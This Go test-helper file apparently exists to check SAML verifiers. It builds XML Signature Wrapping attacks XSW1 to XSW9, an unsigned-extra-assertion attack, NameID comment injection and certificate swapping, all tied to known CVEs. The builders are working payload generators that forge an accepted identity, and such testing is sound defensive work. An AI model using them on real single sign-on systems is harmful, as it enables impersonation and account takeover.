package samltest

import (
	"encoding/base64"
	"errors"

	"github.com/beevik/etree"
)

// IDs the XML Signature Wrapping builders give to attacker-edited elements,
// as SAMLRaider does.
const (
	EvilResponseID  = "_evil_response_ID"
	EvilAssertionID = "_evil_assertion_ID"
)

// The XSW builders rewrite a document whose Response (XSW1, XSW2) or
// Assertion (XSW3 to XSW9) carries a valid signature, following the
// permutations of SAMLRaider's XSWHelpers (Somorovsky et al., "On Breaking
// SAML", 2012). In each result the signature still verifies over the original
// content while a naive SP would read an assertion whose NameID is evil.

// XSW1 appends an unsigned copy of the signed Response inside the Response's
// Signature and turns the outer Response into the evil one.
func XSW1(doc *etree.Document, evil string) error {
	resp, sig, err := signedResponse(doc)
	if err != nil {
		return err
	}
	clone := withoutSignature(resp.Copy())
	sig.AddChild(clone)
	setAttr(resp, "ID", EvilResponseID)
	return SetNameID(AssertionOf(doc), evil)
}

// XSW2 is XSW1 with the copy placed before the Signature (detached shape).
func XSW2(doc *etree.Document, evil string) error {
	resp, sig, err := signedResponse(doc)
	if err != nil {
		return err
	}
	clone := withoutSignature(resp.Copy())
	resp.InsertChildAt(sig.Index(), clone)
	setAttr(resp, "ID", EvilResponseID)
	return SetNameID(AssertionOf(doc), evil)
}

// XSW3 inserts an evil unsigned assertion before the signed one.
func XSW3(doc *etree.Document, evil string) error {
	a, _, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	e, err := evilCopy(a, evil)
	if err != nil {
		return err
	}
	doc.Root().InsertChildAt(a.Index(), e)
	return nil
}

// XSW4 replaces the signed assertion by an evil one that contains it.
func XSW4(doc *etree.Document, evil string) error {
	a, _, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	e, err := evilCopy(a, evil)
	if err != nil {
		return err
	}
	resp := doc.Root()
	idx := a.Index()
	resp.RemoveChildAt(idx)
	resp.InsertChildAt(idx, e)
	e.AddChild(a)
	return nil
}

// XSW5 edits the signed assertion in place (new ID, evil NameID, dangling
// Signature) and appends an unmodified unsigned copy to the Response.
func XSW5(doc *etree.Document, evil string) error {
	a, _, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	clone := withoutSignature(a.Copy())
	setAttr(a, "ID", EvilAssertionID)
	if err := SetNameID(a, evil); err != nil {
		return err
	}
	doc.Root().AddChild(clone)
	return nil
}

// XSW6 is XSW5 with the unmodified copy inside the assertion's Signature.
func XSW6(doc *etree.Document, evil string) error {
	a, sig, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	clone := withoutSignature(a.Copy())
	setAttr(a, "ID", EvilAssertionID)
	if err := SetNameID(a, evil); err != nil {
		return err
	}
	sig.AddChild(clone)
	return nil
}

// XSW7 puts an evil unsigned assertion inside a samlp:Extensions element
// before the signed assertion.
func XSW7(doc *etree.Document, evil string) error {
	a, _, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	e, err := evilCopy(a, evil)
	if err != nil {
		return err
	}
	ext := etree.NewElement("samlp:Extensions")
	ext.AddChild(e)
	doc.Root().InsertChildAt(a.Index(), ext)
	return nil
}

// XSW8 edits the signed assertion (evil NameID) and puts an unmodified
// unsigned copy inside a ds:Object appended to its Signature.
func XSW8(doc *etree.Document, evil string) error {
	a, sig, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	clone := withoutSignature(a.Copy())
	if err := SetNameID(a, evil); err != nil {
		return err
	}
	obj := sig.CreateElement("ds:Object")
	obj.AddChild(clone)
	return nil
}

// XSW9 follows CVE-2019-3465 (xmlseclibs): the assertion is edited, the
// DigestValue in its SignedInfo recomputed for the edited content while the
// original SignatureValue is kept, and the original assertion is appended
// inside a wrapper so a verifier resolving references document-wide finds
// it.
func XSW9(doc *etree.Document, evil string) error {
	a, sig, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	original := a.Copy()
	if err := SetNameID(a, evil); err != nil {
		return err
	}
	dv := findPath(sig, "SignedInfo", "Reference", "DigestValue")
	if dv == nil {
		return errors.New("samltest: signature has no DigestValue")
	}
	withoutSig := withoutSignature(a.Copy())
	// Evaluate the digest with a's namespaces in scope.
	doc.Root().AddChild(withoutSig)
	c14n := findPath(sig, "SignedInfo", "CanonicalizationMethod").SelectAttrValue("Algorithm", AlgExcC14N)
	dm := findPath(sig, "SignedInfo", "Reference", "DigestMethod").SelectAttrValue("Algorithm", AlgSHA256)
	d, err := Digest(withoutSig, c14n, dm)
	doc.Root().RemoveChild(withoutSig)
	if err != nil {
		return err
	}
	dv.SetText(d)
	wrapper := etree.NewElement("samlp:Extensions")
	wrapper.AddChild(original)
	doc.Root().AddChild(wrapper)
	return nil
}

// MultipleAssertions appends a second, unsigned assertion with the evil
// NameID after the signed one (CVE-2022-41912).
func MultipleAssertions(doc *etree.Document, evil string) error {
	a := AssertionOf(doc)
	if a == nil {
		return errors.New("samltest: no assertion")
	}
	e, err := evilCopy(a, evil)
	if err != nil {
		return err
	}
	doc.Root().AddChild(e)
	return nil
}

// SetNameID replaces the text of the assertion's Subject/NameID.
func SetNameID(assertion *etree.Element, v string) error {
	n := findPath(assertion, "Subject", "NameID")
	if n == nil {
		return errors.New("samltest: assertion has no Subject/NameID")
	}
	n.SetText(v)
	return nil
}

// InjectComment splits the NameID text at byte offset at with an empty
// comment: "victim@example.com<!---->.evil.test" (CVE-2017-11427 family).
// Exclusive canonicalization drops the comment, so a signature over the
// original text still verifies.
func InjectComment(assertion *etree.Element, at int) error {
	n := findPath(assertion, "Subject", "NameID")
	if n == nil {
		return errors.New("samltest: assertion has no Subject/NameID")
	}
	text := n.Text()
	if at <= 0 || at >= len(text) {
		return errors.New("samltest: comment offset outside the NameID")
	}
	for len(n.Child) > 0 {
		n.RemoveChildAt(0)
	}
	n.CreateText(text[:at])
	n.CreateComment("")
	n.CreateText(text[at:])
	return nil
}

// RemoveSignature removes el's direct-child ds:Signature elements.
func RemoveSignature(el *etree.Element) { withoutSignature(el) }

// SignatureOf returns el's direct-child Signature, or nil.
func SignatureOf(el *etree.Element) *etree.Element { return ChildNamed(el, "Signature") }

// SetKeyInfoCertificate replaces the certificate in a Signature's KeyInfo.
func SetKeyInfoCertificate(sig *etree.Element, der []byte) error {
	c := findPath(sig, "KeyInfo", "X509Data", "X509Certificate")
	if c == nil {
		return errors.New("samltest: signature has no KeyInfo certificate")
	}
	c.SetText(base64.StdEncoding.EncodeToString(der))
	return nil
}

func signedResponse(doc *etree.Document) (*etree.Element, *etree.Element, error) {
	resp := doc.Root()
	sig := SignatureOf(resp)
	if sig == nil {
		return nil, nil, errors.New("samltest: the Response is not signed")
	}
	return resp, sig, nil
}

func signedAssertion(doc *etree.Document) (*etree.Element, *etree.Element, error) {
	a := AssertionOf(doc)
	if a == nil {
		return nil, nil, errors.New("samltest: no assertion")
	}
	sig := SignatureOf(a)
	if sig == nil {
		return nil, nil, errors.New("samltest: the assertion is not signed")
	}
	return a, sig, nil
}

func evilCopy(a *etree.Element, evil string) (*etree.Element, error) {
	e := withoutSignature(a.Copy())
	setAttr(e, "ID", EvilAssertionID)
	if err := SetNameID(e, evil); err != nil {
		return nil, err
	}
	return e, nil
}

func withoutSignature(el *etree.Element) *etree.Element {
	for {
		sig := SignatureOf(el)
		if sig == nil {
			return el
		}
		el.RemoveChild(sig)
	}
}

func setAttr(el *etree.Element, key, value string) {
	if a := el.SelectAttr(key); a != nil {
		a.Value = value
		return
	}
	el.CreateAttr(key, value)
}

func findPath(el *etree.Element, names ...string) *etree.Element {
	for _, n := range names {
		el = ChildNamed(el, n)
		if el == nil {
			return nil
		}
	}
	return el
}
